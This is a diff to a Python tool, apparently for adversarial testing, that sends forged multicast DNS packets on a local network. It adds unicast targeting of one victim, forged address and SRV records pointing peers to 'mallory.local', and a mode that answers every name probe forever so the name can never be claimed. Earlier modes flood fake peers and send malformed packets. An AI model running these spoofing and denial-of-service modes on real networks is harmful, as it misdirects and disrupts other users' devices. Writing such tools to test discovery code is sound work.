@@ -1,10 +1,14 @@
 """Says what is not true, by multicast DNS: mallory.py ADDRESS WHAT [WORD...], the address being one of this computer.
+With ADDRESS>VICTIM, only the victim hears it.
 
     flood COUNT             so many peers that do not exist
     texts COUNT             so many with a TXT record of 8,000 bytes that are no text
     addresses COUNT         so many addresses of hosts for which nobody has asked
     claim NAME PORT IP...   a peer of that name at these addresses, port 0 meaning that it is gone
+    at HOST IP...           that a host has these addresses
+    service NAME HOST PORT  that a peer is at this port of this host, port 0 meaning that it is gone
     goodbye NAME TIMES      that a peer has gone, twice a second
+    taken NAME              that whatever begins with NAME is taken, whenever somebody asks for it; for ever
     nonsense COUNT          so many packets that are not DNS, or only nearly
 """
 import ipaddress
@@ -28,6 +32,11 @@ def record(name, kind, kind_class, data, ttl=4500):
 
 def label(text):
     return bytes([len(text)]) + text
+
+
+def dotted(host):
+    """The host name `bob.local.` as a name of DNS."""
+    return b"".join(label(part.encode()) for part in host.rstrip(".").split(".")) + b"\x00"
 
 
 def place(host, ip):
@@ -68,10 +77,40 @@ def claim(name, port, *ips):
     yield response(peer(name.encode(), int(port), *ips))
 
 
+def at(host, *ips):
+    yield response([place(dotted(host), ip) for ip in ips])
+
+
+def service_record(name, host, port):
+    return [record(label(name) + TYPE, SRV, FLUSH, struct.pack(">HHH", 0, 0, port) + dotted(host))]
+
+
+def service(name, host, port):
+    yield response(service_record(name.encode(), host, int(port)))
+
+
 def goodbye(name, times):
     for _ in range(int(times)):
         yield response([record(TYPE, PTR, IN, label(name.encode()) + TYPE, ttl=0)])
         time.sleep(0.5)
+
+
+def taken(name):
+    """Answers all probes, which are questions with what is to be announced in them."""
+    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    listener.bind(GROUP)
+    # At the interface of the computer's only address.
+    listener.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(GROUP[0]) + socket.inet_aton(sys.argv[1]))
+    print("listening", flush=True)
+    while True:
+        packet = listener.recv(9000)
+        begin = packet.find(name.encode())
+        is_probe = packet[2] < 0x80 and packet[8:10] != b"\0\0" and begin > 0
+        if is_probe:
+            asked = packet[begin:begin + packet[begin - 1]]
+            text = record(label(asked) + TYPE, TXT, FLUSH, b"\x00")
+            yield response(service_record(asked, "mallory.local.", 4000) + [text])
 
 
 def nonsense(count):
@@ -96,14 +135,16 @@ def nonsense(count):
 
 
 def main(address, what, *words):
+    address, _, victim = address.partition(">")
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
     sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
     sock.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
     sock.bind((address, 5353))
-    lies = {function.__name__: function for function in (flood, texts, addresses, claim, goodbye, nonsense)}
+    lies = {function.__name__: function
+            for function in (flood, texts, addresses, claim, at, service, goodbye, taken, nonsense)}
     for packet in lies[what](*words):
-        sock.sendto(packet, GROUP)
+        sock.sendto(packet, (victim, GROUP[1]) if victim else GROUP)
         time.sleep(PAUSE)
     print("done", flush=True)
 
